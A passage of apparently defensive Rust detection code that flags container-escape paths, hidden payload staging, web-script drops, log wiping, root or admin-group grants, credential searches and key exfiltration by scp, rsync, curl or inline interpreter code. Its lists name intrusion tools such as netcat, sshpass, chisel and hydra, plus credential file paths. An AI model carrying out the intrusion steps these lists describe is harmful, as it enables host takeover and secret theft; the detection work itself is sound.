/// their distributions' package names, and the clients an intruder installs in a running
/// container to move on from it (an SSH client, a password feeder, a proxy chain, a tunnel).
const REACH_PACKAGES: &[&str] = &[
    "netcat-openbsd",
    "netcat-traditional",
    "openbsd-netcat",
    "gnu-netcat",
    "nmap-ncat",
    "inetutils-telnet",
    "busybox-extras",
    "openssh-client",
    "openssh-clients",
    "openssh-client-default",
    "openssh",
    "dropbear-dbclient",
    "dropbear-ssh",
    "sshpass",
    "proxychains",
    "proxychains-ng",
    "proxychains4",
    "chisel",
    "hydra",
    "wireshark-cli",
];

/// The package an installation by a package manager brings that reaches other hosts by
/// hand (`REACH_PACKAGES`, or a package named as a [`NET_TOOLS`] or `SCANNERS` program),
/// if any: `apk add socat`, `apt-get install -y openssh-client=1:9.2p1-2`, `dnf install
/// nmap-ncat`, `zypper in netcat-openbsd`, `pacman -S openbsd-netcat`. Only an installation
/// from the distribution's repositories, by its verb (`add`, `install`, `in`, `-S`); a
/// version or release written after the name (`=`, `~`, `<`, `>`) is no part of it. A
/// person installing one in a running container is equipping it to move on: their quiet
/// session is no evidence of routine work ([`Step::NetworkTool`]).
pub fn installs_network_tool(program: &str, args: &[&str]) -> Option<String> {
    let verb = |a: &str| match program {
        "apk" => a == "add",
        "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "microdnf" => a == "install",
        "zypper" => matches!(a, "in" | "install"),
        // `-S` with refresh and upgrade letters (`-Sy`, `-Syu`); not a search, an information
        // query or a cache clean (`-Ss`, `-Si`, `-Sc`).
        "pacman" => {
            a.strip_prefix("-S").is_some_and(|rest| {
                !a.starts_with("--") && rest.chars().all(|c| matches!(c, 'y' | 'u' | 'w'))
            }) || a == "--sync"
        }
        _ => false,
    };
    let at = args.iter().position(|a| verb(a))?;
    args[at + 1..]
        .iter()
        .filter(|a| !a.starts_with('-'))
        .map(|a| {
            a.trim_matches(|c| c == '"' || c == '\'')
                .split(['=', '~', '<', '>'])
                .next()
                .unwrap_or_default()
        })
        .find(|p| REACH_PACKAGES.contains(p) || NET_TOOLS.contains(p) || SCANNERS.contains(p))
        .map(str::to_string)
}

/// Whether a network tool's or a scanner's arguments sweep a network ([`Step::Sweep`]): an
/// IPv4 address range in its last octet (`10.0.0.1-254`), a block of more than one address
/// (`10.0.0.0/24`; not `/32`), or a port range of more than a hundred ports (`1-1024`,
/// `-p 1-65535`). One service's address and port, or a few neighbouring ports, are a check.
pub fn sweeps_network(args: &[&str]) -> bool {
    let range = |a: &str| -> Option<(u32, u32)> {
        let (lo, hi) = a.split_once('-')?;
        Some((lo.parse().ok()?, hi.parse().ok()?))
    };
    args.iter().any(|a| {
        let a = a.trim_start_matches("-p").trim_start_matches('=');
        if let Some((net, bits)) = a.split_once('/') {
            return net.parse::<std::net::Ipv4Addr>().is_ok()
                && bits.parse::<u8>().is_ok_and(|b| b < 32);
        }
        if let Some((head, last)) = a.rsplit_once('.') {
            // `10.0.0.1-254`: the first three octets an address's, the last a range.
            let octets = head.split('.').filter(|o| o.parse::<u8>().is_ok()).count();
            return octets == 3
                && head.split('.').count() == 3
                && range(last).is_some_and(|(lo, hi)| lo < hi && hi <= 255);
        }
        range(a).is_some_and(|(lo, hi)| hi <= 65_535 && hi > lo && hi - lo >= 100)
    })
}

/// System calls of a privileged kernel interface (see [`Step::KernelInterface`]).
const KERNEL_CALLS: &[&str] = &[
    "setns",
    "unshare",
    "mount",
    "umount",
    "umount2",
    "pivot_root",
    "init_module",
    "finit_module",
    "delete_module",
    "bpf",
    "kexec_load",
    "open_by_handle_at",
];

/// Whether a path names a program the kernel runs as root on the host when told to: a
/// cgroup v1 hierarchy's `release_agent`, the hotplug helper `uevent_helper`.
pub fn kernel_helper(path: &str) -> bool {
    matches!(
        path.rsplit('/').next().unwrap_or(path),
        "release_agent" | "uevent_helper"
    )
}

/// Whether a kernel-interface step ([`Step::KernelInterface`]'s `what`, `finit_module
/// PATH`) loads a kernel module staged in a hidden place of a temporary directory
/// (`/tmp/.nv/x.ko`): drivers load from the system's module tree, and installers that test a
/// module they just built load it from a visible build directory; a module hidden where
/// anyone can write is a rootkit's way in (the blind holdout35: a tampered driver image
/// also loading a module from `/tmp/.nv/`).
pub fn hidden_module(what: &str) -> bool {
    what.strip_prefix("finit_module ")
        .or_else(|| what.strip_prefix("init_module "))
        .is_some_and(|p| hidden_staging(p.trim()))
}

/// Whether a path reaches the host from inside a container, or the node's credentials.
pub fn host_path(path: &str) -> bool {
    let proc_root = path.strip_prefix("/proc/").is_some_and(|rest| {
        let mut parts = rest.split('/');
        let pid = parts.next().unwrap_or("");
        (pid == "self" || (!pid.is_empty() && pid.chars().all(|c| c.is_ascii_digit())))
            && parts.next() == Some("root")
    });
    let base = path.rsplit('/').next().unwrap_or(path);
    proc_root
        || path.starts_with("/host/")
        || path == "/host"
        || path.contains("/var/lib/kubelet/")
        || path.contains("/etc/kubernetes/")
        || kernel_helper(path)
        || matches!(base, "notify_on_release" | "core_pattern" | "sysrq-trigger")
        || (base.ends_with(".sock")
            && (base.contains("docker") || base.contains("containerd") || base.contains("crio")))
        || block_device(path)
        || matches!(path, "/dev/mem" | "/dev/kmem" | "/dev/port")
}

/// Whether a path names a disk, a partition or a volume: the node that holds a whole
/// filesystem, whatever its bus. SCSI, SATA and USB disks (`/dev/sdb1`), NVMe
/// (`/dev/nvme0n1p2`), virtual and Xen disks (`/dev/vda`, `/dev/xvdf`), IDE (`/dev/hda`),
/// SD cards and eMMC (`/dev/mmcblk0p3`), device-mapper and LVM volumes (`/dev/dm-3`,
/// `/dev/mapper/vg-data`), software RAID (`/dev/md0`, `/dev/md/data`), network and Ceph
/// block devices (`/dev/nbd0`, `/dev/rbd2`), ZFS volumes (`/dev/zd16`, `/dev/zvol/…`),
/// cache and persistent-memory devices (`/dev/bcache0`, `/dev/pmem1`), and the stable
/// names udev links to any of them (`/dev/disk/by-id/…`). Writing one over destroys
/// everything on it, and reading one reads every file on it past their permissions.
/// A loop device (backed by a file) and an optical drive are not included.
pub fn block_device(path: &str) -> bool {
    let Some(name) = path.strip_prefix("/dev/") else {
        return false;
    };
    // A family whose nodes are numbered right after the family's name.
    let numbered = |family: &str| {
        name.strip_prefix(family)
            .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
    };
    [
        "sd", "nvme", "vd", "xvd", "hd", "dm-", "mapper/", "disk/", "zvol/", "md/",
    ]
    .iter()
    .any(|d| name.starts_with(d))
        || ["mmcblk", "md", "nbd", "rbd", "zd", "bcache", "pmem"]
            .iter()
            .any(|f| numbered(f))
}

/// Whether a path is a hidden file or directory in a drop directory (`/tmp/.x`,
/// `/dev/shm/.d/p`), other than the X11 and ICE socket directories, or anywhere below
/// `/dev` (`/dev/.ptpd`): the device filesystem holds device nodes and the runtime's
/// directories; a hidden regular file there is a payload kept off the disk and out of sight
/// (the blind holdout30: a tampered image's entrypoint writing one).
pub fn hidden_staging(path: &str) -> bool {
    let hidden = |c: &str| {
        c.starts_with('.')
            && c.len() > 1
            && c != ".."
            && !matches!(
                c,
                ".X11-unix" | ".ICE-unix" | ".font-unix" | ".XIM-unix" | ".Test-unix"
            )
    };
    (in_drop_dir(path) || path.starts_with("/dev/")) && path.split('/').skip(2).any(hidden)
}

/// A path where a dropped script or tool is staged: a temporary directory, or a hidden
/// component anywhere (`/var/www/.x/`).
fn staged_path(p: &str) -> bool {
    p.starts_with('/') && (in_drop_dir(p) || p.contains("/."))
}

/// Script files by their extension: what an interpreter or a shell runs.
const SCRIPT_EXTENSIONS: &[&str] = &[
    "sh", "bash", "py", "pl", "rb", "php", "js", "lua", "tcl", "ps1",
];

/// Whether `p` names a script file (by its extension).
fn script_file(p: &str) -> bool {
    let base = p.rsplit('/').next().unwrap_or(p);
    base.rsplit_once('.')
        .is_some_and(|(stem, ext)| !stem.is_empty() && SCRIPT_EXTENSIONS.contains(&ext))
}

/// Extensions of the scripts a web server runs when they are requested.
const WEB_SCRIPT_EXTENSIONS: &[&str] = &[
    "php", "phtml", "php5", "php7", "phar", "jsp", "jspx", "asp", "aspx", "ashx", "cgi",
];

/// Whether `path` names a server-side script by its extension.
fn web_script_name(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    base.rsplit_once('.').is_some_and(|(stem, ext)| {
        !stem.is_empty() && WEB_SCRIPT_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str())
    })
}

/// The system logger's own files in `/var/log/` on Debian, RHEL, SUSE and Alpine layouts:
/// what ran on the host, its jobs, boots, kernel and daemons. Applications' logs (a web
/// server's, a proxy's) are not among them.
const SYSTEM_RECORDS: &[&str] = &[
    "syslog",
    "messages",
    "cron",
    "cron.log",
    "boot.log",
    "kern.log",
    "daemon.log",
    "user.log",
    "debug",
    "dmesg",
    "maillog",
    "mail.log",
    "mail.err",
    "mail.warn",
    "localmessages",
    "warn",
    "firewall",
];

/// The system record a person's act empties: one of the system logger's own files
/// directly in `/var/log/` (`SYSTEM_RECORDS`: system, cron, boot, kernel, daemon, mail
/// logs), or a security record anywhere, removed, truncated or opened to be written over,
/// unless it is housekeeping data ([`Sensitivity::Low`]: a rotated archive). An
/// application's own log (`/var/log/haproxy.log`, `/var/log/app/debug.log`) is not one:
/// people empty those to recover space. A system record tells what ran on the host, and
/// emptying it by hand is how a trail is wiped: a person's quiet session does not make
/// that routine (`person_quiet`).
pub fn empties_record_log(ev: &FlatEvent) -> Option<String> {
    let ty = text(ev, "evt.type")?;
    if !succeeded(ev) {
        return None;
    }
    let path_of = |keys: &[&str]| keys.iter().find_map(|k| text(ev, k));
    let path = match ty.as_str() {
        "unlink" | "unlinkat" | "truncate" | "ftruncate" => {
            path_of(&["fs.path.name", "evt.arg.path", "evt.arg.name", "fd.name"])?
        }
        "open" | "openat" | "openat2" | "creat" => {
            let flags = text(ev, "evt.arg.flags").unwrap_or_default();
            let over = flags.contains("O_TRUNC") || ty == "creat";
            if !over {
                return None;
            }
            path_of(&["fd.name", "evt.arg.name"])?
        }
        "rename" | "renameat" | "renameat2" => path_of(&["fs.path.source", "evt.arg.oldpath"])?,
        _ => return None,
    };
    let level = sensitivity(&path);
    let system_log = path
        .strip_prefix("/var/log/")
        .is_some_and(|rest| SYSTEM_RECORDS.contains(&rest));
    ((system_log && level != Sensitivity::Low) || level == Sensitivity::High).then_some(path)
}

/// Whether an account tool's arguments give user id 0 (`-u 0`, `-u0`, `--uid 0`,
/// `--uid=0`) or let an id be shared with another account (`-o`, `--non-unique`).
fn gives_root_id(args: &[&str]) -> bool {
    let mut prev = "";
    for a in args {
        let uid_zero = matches!(*a, "-u0" | "--uid=0")
            || (matches!(prev, "-u" | "--uid") && a.trim_start_matches('0').is_empty());
        if uid_zero || matches!(*a, "-o" | "--non-unique") {
            return true;
        }
        // Short options run together (`-ou`, then `0`).
        if a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && a[1..].contains('o') {
            let letters = &a[1..];
            if letters.chars().all(|c| c.is_ascii_alphabetic()) {
                return true;
            }
        }
        prev = a;
    }
    false
}

/// Groups whose members hold the host's administration: sudo's and su's groups (`wheel`,
/// `sudo`, `admin`), root's own group, and the groups that reach root without a password
/// (the container daemons' sockets, raw disks, the shadow file). Group id 0 is root's.
const ADMIN_GROUPS: &[&str] = &[
    "wheel", "sudo", "admin", "root", "docker", "lxd", "disk", "shadow",
];

/// The administrators' group (`ADMIN_GROUPS`) an account tool's command line puts an
/// account into, if any: `useradd`/`usermod` with `-G`/`--groups` (also `-aG`, `-Gwheel`,
/// `--groups=`) or a primary group `-g`/`--gid`; `gpasswd -a USER GROUP` or `-M USERS
/// GROUP`; Debian's `adduser USER GROUP`; `groupmems -g GROUP -a USER`. Listing, removing
/// (`gpasswd -d`) and other groups are not.
pub fn grants_admin_group(name: &str, args: &[&str]) -> Option<String> {
    let admin = |list: &str| {
        list.split(',')
            .map(|g| g.trim_matches(|c| c == '"' || c == '\''))
            .find(|g| ADMIN_GROUPS.contains(g) || *g == "0")
            .map(|g| if g == "0" { "root" } else { g }.to_string())
    };
    match name {
        "useradd" | "usermod" => {
            let mut want = false;
            for a in args {
                if want {
                    want = false;
                    if let Some(g) = admin(a) {
                        return Some(g);
                    }
                    continue;
                }
                if let Some(v) = a
                    .strip_prefix("--groups=")
                    .or_else(|| a.strip_prefix("--gid="))
                {
                    if let Some(g) = admin(v) {
                        return Some(g);
                    }
                } else if matches!(*a, "--groups" | "--gid") {
                    want = true;
                } else if let Some(letters) = a.strip_prefix('-').filter(|l| !l.starts_with('-')) {
                    // Short options run together: `-aG`, then the list; `-Gwheel` holds it.
                    if let Some(p) = letters.find(['G', 'g']) {
                        let rest = &letters[p + 1..];
                        if rest.is_empty() {
                            want = true;
                        } else if let Some(g) = admin(rest) {
                            return Some(g);
                        }
                    }
                }
            }
            None
        }
        "gpasswd" => {
            let adds = args
                .iter()
                .any(|a| matches!(*a, "-a" | "--add" | "-M" | "--members"));
            adds.then(|| args.last().and_then(|g| admin(g))).flatten()
        }
        "adduser" | "addgroup" => {
            // `adduser USER GROUP`: two operands, no options taking values between them.
            let operands: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
            (operands.len() == 2 && !args.iter().any(|a| a.starts_with('-')))
                .then(|| admin(operands[1]))
                .flatten()
        }
        "groupmems" => {
            let adds = args.iter().any(|a| matches!(*a, "-a" | "--add"));
            let group = args
                .windows(2)
                .find(|w| matches!(w[0], "-g" | "--group"))
                .map(|w| w[1]);
            group.filter(|_| adds).and_then(admin)
        }
        _ => None,
    }
}

/// The administrators' group a command line (`gpasswd -a u wheel`) puts an account into
/// ([`grants_admin_group`]), by the program's file name.
pub fn cmdline_grants_admin_group(cmd: &str) -> Option<String> {
    let mut words = cmd.split_whitespace();
    let argv0 = words.next()?;
    let name = argv0.rsplit('/').next().unwrap_or(argv0);
    let args: Vec<&str> = words.collect();
    grants_admin_group(name, &args)
}

/// The administrators' group an execution's command line puts an account into
/// ([`grants_admin_group`]), for a successful execution of an account tool.
pub fn exec_grants_admin_group(ev: &FlatEvent) -> Option<String> {
    if !is_exec(ev) || !succeeded(ev) {
        return None;
    }
    cmdline_grants_admin_group(&text(ev, "proc.cmdline")?)
}

/// Whether an interpreter's execution runs a program file (a script, a module, a jar) that
/// is neither staged (in a drop directory or a hidden path) nor absent: not code given on
/// the command line (`python -c`), not a program read from standard input (`python3 -`).
fn runs_program_file(ev: &FlatEvent) -> bool {
    if inline_code(ev) {
        return false;
    }
    let cmd = text(ev, "proc.cmdline").unwrap_or_default();
    crate::cluster::script_of(&cmd).is_some_and(|p| p != "-" && !p.is_empty() && !staged_path(&p))
}

/// Whether an interpreter runs code given on its command line rather than a script file
/// (`php -r`, `python -c`, `perl -e`, `ruby -e`, `node -e`/`--eval`).
fn inline_code(ev: &FlatEvent) -> bool {
    let Some(name) = text(ev, "proc.name") else {
        return false;
    };
    if role(&name) != Role::Interpreter {
        return false;
    }
    let cmd = text(ev, "proc.cmdline").unwrap_or_default();
    cmd.split_whitespace()
        .skip(1)
        .take_while(|a| a.starts_with('-'))
        .any(|a| matches!(a, "-r" | "-c" | "-e" | "-E" | "--eval" | "-p"))
}

/// A server-side script written by a program below a web server that is neither a server
/// nor an interpreter, a server-side script with a hidden name, or one written by an
/// interpreter running code from its own command line ([`Step::WebScript`]).
fn web_script_drop(ev: &FlatEvent, path: &str) -> bool {
    if !web_script_name(path) {
        return false;
    }
    let line = lineage(ev);
    let Some((_, writer, _)) = line.first() else {
        return false;
    };
    let writer_role = role(writer);
    // A hidden script (`.c.php`) is not how applications name their code; code typed on a
    // command line that writes a script is a script dropped by hand. Package managers
    // install what they ship.
    let base = path.rsplit('/').next().unwrap_or(path);
    if writer_role != Role::PackageManager && (base.starts_with('.') || inline_code(ev)) {
        return true;
    }
    !matches!(writer_role, Role::Service | Role::Interpreter)
        && !writer.starts_with("php")
        && line
            .iter()
            .skip(1)
            .any(|(_, n, _)| role(n) == Role::Service)
}

/// A script file (`.rb`, `.py`, `.php`, `.sh`...) written below a service through a path
/// that climbs out of its directory (`uploads/../../config/initializers/z.rb`), as the
/// program named it (`evt.arg.name`; `fd.name` when the recording kept it unresolved): an
/// upload or a converted file steered into the application's code ([`Step::WebScript`]).
/// Programs name their own output without climbing back out of where they write.
fn traversal_script_drop(ev: &FlatEvent, path: &str) -> bool {
    let climbing = [Some(path.to_string()), text(ev, "evt.arg.name")]
        .into_iter()
        .flatten()
        .any(|p| climbs_into_script(&p));
    climbing
        && lineage(ev)
            .iter()
            .skip(1)
            .any(|(_, n, _)| role(n) == Role::Service)
}

/// Whether a path names a script file through a `..` component.
fn climbs_into_script(p: &str) -> bool {
    (p.contains("/../") || p.starts_with("../")) && (script_file(p) || web_script_name(p))
}

/// A shell's own connection to a host outside the site ([`Step::ShellConnect`]), as
/// `addr` (`fd.name`), or `None`. Local sockets, loopback and the site's own addresses
/// (`timeout 1 bash -c '</dev/tcp/db/5432'`, a readiness probe) are not counted.
fn shell_connection(ev: &FlatEvent) -> Option<String> {
    let name = text(ev, "proc.name")?;
    if role(&name) != Role::Shell {
        return None;
    }
    let ip = text(ev, "fd.sip")?;
    let inet = ip.parse::<std::net::IpAddr>().ok()?;
    if inet.is_loopback() || inet.is_unspecified() || !host_is_outside(&ip) {
        return None;
    }
    Some(format!(
        "{name} {}",
        text(ev, "fd.name").unwrap_or_else(|| ip.clone())
    ))
}

/// Whether a `socket` call opens a raw or packet socket (`evt.arg.domain`, `evt.arg.type`).
pub fn raw_socket(domain: &str, ty: &str) -> bool {
    domain.contains("PACKET")
        || domain == "17"
        || ty == "3"
        || ty.contains("SOCK_RAW")
        || ty.contains("SOCK_PACKET")
}

/// Programs that search file names or contents.
const SEARCHERS: &[&str] = &[
    "grep", "egrep", "fgrep", "rgrep", "rg", "ag", "ack", "find", "locate", "mlocate", "plocate",
];

/// Words of a search that look for private keys or passwords (lowercase).
const KEY_WORDS: &[&str] = &[
    "private",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "password",
    "passwd=",
    "secret_key",
    "secret_access",
    "aws_secret",
    "access_key",
    "api_key",
    "apikey",
    ".pem",
    "*.key",
    ".kdbx",
];

/// Whether a file search (`find` by `-name`, `-path` and their kin, `locate` and its kin)
/// looks for credential files by name ([`names_credential_file`]). A file a `grep` reads is
/// where it searches, not what it looks for: `grep NOPASSWD /etc/sudoers` audits a policy.
fn searches_for_credential_files(name: &str, args: &[&str]) -> bool {
    match name {
        "find" => args.windows(2).any(|w| {
            matches!(
                w[0],
                "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-iwholename"
            ) && names_credential_file(w[1])
        }),
        "locate" | "mlocate" | "plocate" => args.iter().any(|a| names_credential_file(a)),
        _ => false,
    }
}

/// Whether a search pattern (a `find -name`/`-path` glob, a `locate` word) names a
/// credential file by where such files live: `*/.aws/credentials`, `.git-credentials`,
/// `.kube/config`, `id_ed25519`, `*.pgpass` (session 24, the blind holdout33: a monitoring
/// item also running `find / -path */.aws/credentials` kept its agent's catalogue anchor).
/// The pattern's glob characters and quotes are dropped and it is read as a path below a
/// directory, so a bare file name counts as one found anywhere.
fn names_credential_file(pattern: &str) -> bool {
    let p: String = pattern
        .chars()
        .filter(|c| !matches!(c, '*' | '?' | '"' | '\'' | '[' | ']'))
        .collect();
    if p.len() < 4 || p.starts_with('-') {
        return false;
    }
    let as_path = if p.starts_with('/') {
        p
    } else {
        format!("/x/{p}")
    };
    is_credential_material(&as_path) && !as_path.ends_with('/')
}

/// Whether a path holds mounted secrets or credential material (beyond [`is_credential`]):
/// an orchestrator's service-account token and mounted secrets, private keys and key
/// stores by name, cloud and cluster credentials, password stores.
pub fn is_credential_material(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    is_credential(path)
        || path.starts_with("/var/run/secrets/")
        || path.starts_with("/run/secrets/")
        || path.starts_with("/etc/ssl/private/")
        || path.starts_with("/etc/pki/tls/private/")
        || path.contains("/.ssh/id_") && !path.ends_with(".pub")
        || path.contains("/.gnupg/private-keys")
        || path.contains("/.password-store/")
        || path.ends_with("/.netrc")
        || path.ends_with("/.pgpass")
        || path.ends_with("/.git-credentials")
        || path.contains("/.azure/")
        || matches!(base, "credentials.json" | "secrets.yaml" | "secrets.yml")
        || secrets_mount(path)
        || key_or_password_file(base)
        || (named_as_secret(base) && !path.starts_with("/etc/pam.d/"))
}

/// Whether a file is named as the password, passphrase or secret it holds, alone or as its
/// name's last part (`/etc/restic/password`, `.borg.passphrase`, `client.secret`; session
/// 23, the blind holdout32's restic unit posting its repository password). PAM's
/// `common-password` policy is no secret (see [`is_credential_material`]).
fn named_as_secret(base: &str) -> bool {
    let b = base.as_bytes();
    ["password", "passphrase", "secret"].iter().any(|x| {
        let n = x.len();
        b.len() >= n
            && b[b.len() - n..].eq_ignore_ascii_case(x.as_bytes())
            && (b.len() == n || !b[b.len() - n - 1].is_ascii_alphanumeric())
    })
}

/// Whether a file name has the shape of a private key, a key store or a password map,
/// wherever it lives (kinds, not a list of products): `server.key`, `privkey.pem`, a DKIM
/// signer's `mail.private`, `id_rsa`-style names outside `.ssh`, PKCS#12 and Java key
/// stores, password managers' databases, password maps such as `sasl_passwd` or
/// `.htpasswd` (not `/etc/passwd`, which holds no secret, nor its backup `passwd-`).
fn key_or_password_file(base: &str) -> bool {
    // Called for every opened path triage weighs: no allocation, ASCII case ignored.
    let b = base.as_bytes();
    let ends = |sfx: &str| {
        b.len() >= sfx.len() && b[b.len() - sfx.len()..].eq_ignore_ascii_case(sfx.as_bytes())
    };
    let starts =
        |pfx: &str| b.len() >= pfx.len() && b[..pfx.len()].eq_ignore_ascii_case(pfx.as_bytes());
    let has = |part: &str| {
        b.windows(part.len())
            .any(|w| w.eq_ignore_ascii_case(part.as_bytes()))
    };
    let key_suffix = [
        ".key",
        ".private",
        ".p12",
        ".pfx",
        ".jks",
        ".keystore",
        ".kdbx",
    ]
    .iter()
    .any(|x| ends(x));
    (key_suffix && !ends(".pub.key") && !ends("public.key"))
        || starts("privkey")
        // A PEM named as a key (`key.pem`, `ca-key.pem`, `server_key.pem`), not a public one.
        || (ends("key.pem") && !has("pub"))
        || (has("private") && (ends(".pem") || ends(".der")))
        || ["_rsa", "_dsa", "_ecdsa", "_ed25519"]
            .iter()
            .any(|x| ends(x))
        || (has("passwd")
            && !["passwd", "passwd-", "passwd.lock"]
                .iter()
                .any(|x| base.eq_ignore_ascii_case(x)))
        // A bearer token's file, whatever issued it: a secret agent's sink (`.vault-token`),
        // a projected service-account `token`, `bootstrap-token`, an editor's `token.json`,
        // a static token table (`tokens.csv`), a signed JSON Web Token (`superuser.jwt`).
        || ["token", "tokens", "token.json", "token.txt", "tokens.csv", ".jwt"]
            .iter()
            .any(|x| ends(x))
}

/// Options of `scp` and `sftp` that take a value which is the tool's own configuration
/// or identity, not what it sends: ssh's identity, configuration, options, program, port,
/// cipher, limit, jump host, buffer, batch file and server paths.
const SSH_COPY_VALUE_OPTIONS: &[&str] = &[
    "-i", "-F", "-o", "-S", "-P", "-c", "-l", "-J", "-D", "-B", "-b", "-R", "-s", "-X",
];

/// Options of `ssh` that take a value (its identity, configuration, options, port, login,
/// jump host, cipher, bind address, log file, MAC, control socket): the words of rsync's
/// remote shell (`-e ssh -p 2222 -i KEY`).
const SSH_VALUE_OPTIONS: &[&str] = &[
    "-i", "-F", "-o", "-p", "-l", "-J", "-c", "-b", "-E", "-m", "-S",
];

/// Options of `rsync` that take a separate value (most of its short options take none:
/// `-l`, `-P`, `-c`, `-i` are flags there): the remote shell (`-e "ssh -i KEY"`), filters
/// and their files, the block size, the temporary directory, the password file, the port,
/// the log file.
const RSYNC_VALUE_OPTIONS: &[&str] = &[
    "-e",
    "--rsh",
    "-f",
    "--filter",
    "-B",
    "--block-size",
    "-T",
    "--temp-dir",
    "--password-file",
    "--port",
    "--exclude",
    "--include",
    "--exclude-from",
    "--include-from",
    "--files-from",
    "--log-file",
];

/// The key or credential material ([`is_credential_material`]) or configuration file of
/// the system's services (`named_config_file`) a copy or upload tool's command line names
/// as what it sends to another host: a local source of `scp`, `sftp`
/// or `rsync` when a destination is remote (`host:path`, `rsync://`), or what curl or
/// wget upload (`-T FILE`, `--upload-file`, `-F name=@FILE`, `--data-binary @FILE`,
/// `--post-file=FILE`). The values of the tool's own options (an identity key, a remote
/// shell's command, quoted or not) are not sent, nor what curl presents as its client
/// certificate or key. Backups copy trees (`rsync -a /etc/
/// host:`); naming the key itself is taking it.
pub fn sends_key_material(name: &str, args: &[&str]) -> Option<String> {
    let unq = |a: &str| a.trim_matches(|c| c == '"' || c == '\'').to_string();
    // A relative name is judged by its name alone (`id_rsa`, `signing.key`).
    let key = |a: &str| {
        let probe = if a.starts_with('/') {
            a.to_string()
        } else {
            format!("/{}", a.trim_start_matches("~/"))
        };
        (is_credential_material(&probe) || named_config_file(&probe)).then(|| a.to_string())
    };
    let mut sent: Vec<String> = Vec::new();
    match name {
        "scp" | "sftp" | "rsync" => {
            // The operands: sources, then the destination last.
            let mut operands: Vec<String> = Vec::new();
            let mut skip = false;
            let mut open_quote: Option<char> = None;
            let mut in_rsh = false;
            for a in args {
                if let Some(q) = open_quote {
                    // Inside an option's quoted value (`-e "ssh -i KEY"`): up to its end.
                    if a.ends_with(q) {
                        open_quote = None;
                    }
                } else if skip {
                    skip = false;
                    // A quoted value split on blanks goes on to the word that closes it.
                    open_quote = ['"', '\'']
                        .into_iter()
                        .find(|&q| a.starts_with(q) && (a.len() == 1 || !a.ends_with(q)));
                } else if a.starts_with('-') {
                    // rsync's own short options are mostly flags; but a command line shows
                    // the remote shell's words unquoted (`-e ssh -i KEY`): after `-e`/`--rsh`
                    // and up to the next operand, ssh's options take their values too.
                    skip = if name == "rsync" {
                        RSYNC_VALUE_OPTIONS.contains(a) || (in_rsh && SSH_VALUE_OPTIONS.contains(a))
                    } else {
                        SSH_COPY_VALUE_OPTIONS.contains(a)
                    };
                    if name == "rsync" && (*a == "-e" || *a == "--rsh" || a.starts_with("--rsh=")) {
                        in_rsh = true;
                    }
                } else {
                    in_rsh = false;
                    operands.push(unq(a));
                }
            }
            let remote = |w: &str| {
                w.starts_with("rsync://")
                    || (!w.starts_with('/') && w.split('/').next().is_some_and(|h| h.contains(':')))
            };
            let (dest, sources) = operands.split_last()?;
            if !remote(dest) {
                return None;
            }
            sent.extend(sources.iter().filter(|w| !remote(w)).cloned());
        }
        "curl" | "wget" => {
            let mut next_is_file = false;
            for a in args {
                let w = unq(a);
                if next_is_file {
                    next_is_file = false;
                    sent.push(w.trim_start_matches('@').to_string());
                    continue;
                }
                if matches!(w.as_str(), "-T" | "--upload-file") {
                    next_is_file = true;
                } else if let Some(f) = w
                    .strip_prefix("--post-file=")
                    .or_else(|| w.strip_prefix("--body-file="))
                    .or_else(|| w.strip_prefix("--upload-file="))
                {
                    sent.push(f.to_string());
                } else if let Some((_, f)) = w.split_once('@').filter(|(k, f)| {
                    !f.is_empty() && (k.is_empty() || k.ends_with('=')) && !f.contains("://")
                }) {
                    // `-F file=@PATH`, `--data-binary @PATH`: the file's content is the body.
                    sent.push(f.split(';').next().unwrap_or(f).to_string());
                }
            }
        }
        // An interpreter's inline program (`python3 -c`, `perl -e`, `node -e`, `ruby -e`,
        // `php -r`) that names an address outside the site and a file to send there: the
        // file is sent. Besides credential material, a file kept in a directory of keys or
        // secrets (`/root/.config/borg/keys/repo`) counts (the blind holdout31: a backup
        // unit's added command posting the repository key outside with urllib).
        _ if role(name) == Role::Interpreter => {
            let at = args
                .iter()
                .position(|a| matches!(*a, "-c" | "-e" | "-E" | "-r" | "--eval"))?;
            let code = args[at + 1..].join(" ");
            if !url_hosts(&code).iter().any(|h| host_is_outside(h)) {
                return None;
            }
            let words = code
                .split(|c: char| {
                    c.is_whitespace() || matches!(c, '\'' | '"' | '(' | ')' | ',' | ';')
                })
                .filter(|w| w.starts_with('/'));
            for w in words {
                let kept = ["/keys/", "/secrets/", "/private/"]
                    .iter()
                    .any(|d| w.contains(d));
                if kept || key(w).is_some() {
                    return Some(w.to_string());
                }
            }
            return None;
        }
        _ => return None,
    }
    sent.into_iter().find_map(|a| key(&a))
}

/// Whether a path names one configuration file of the system's own services: under `/etc/`,
/// a file name with a configuration format's extension (`/etc/bbis/db.conf`, `/etc/my.cnf`,
/// `/etc/app/settings.yaml`, `/etc/app/.env`). Such a file holds what its service connects
/// with (a database's password, an API token); a copy tool naming it as what it sends takes
/// it ([`sends_key_material`]). A directory (`/etc/`, `/etc/nginx/`) is a tree, which
/// backups copy whole, and a glob is not one file.
fn named_config_file(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("/etc/") else {
        return false;
    };
    if rest.is_empty() || rest.ends_with('/') || rest.contains(['*', '?', '[']) {
        return false;
    }
    let base = rest.rsplit('/').next().unwrap_or(rest);
    let ext = base.rsplit_once('.').map(|(_, e)| e).unwrap_or_default();
    base == ".env"
        || matches!(
            ext.to_ascii_lowercase().as_str(),
            "conf"
                | "cnf"
                | "cfg"
                | "ini"
                | "env"
                | "yaml"
                | "yml"
                | "json"
                | "toml"
                | "properties"
                | "xml"
        )
}

/// Whether a path lies in a directory of mounted secrets by its name (`/var/openfaas/secrets/`,
/// `/etc/secrets/`, `/vault/secrets/`, `/mnt/secrets-store/`): what platforms and secret
/// injectors mount into a workload, one file per secret.
fn secrets_mount(path: &str) -> bool {
    let mut dirs = path.split('/').collect::<Vec<_>>();
    dirs.pop();
    dirs.iter()
        .any(|d| matches!(*d, "secrets" | "secret" | "secrets-store"))
}

/// Whether a path is root's own login keys (`/root/.ssh/authorized_keys`): a key written
/// there logs in as root, which no agent's managed file for another account explains.
pub fn root_login_key(path: &str) -> bool {
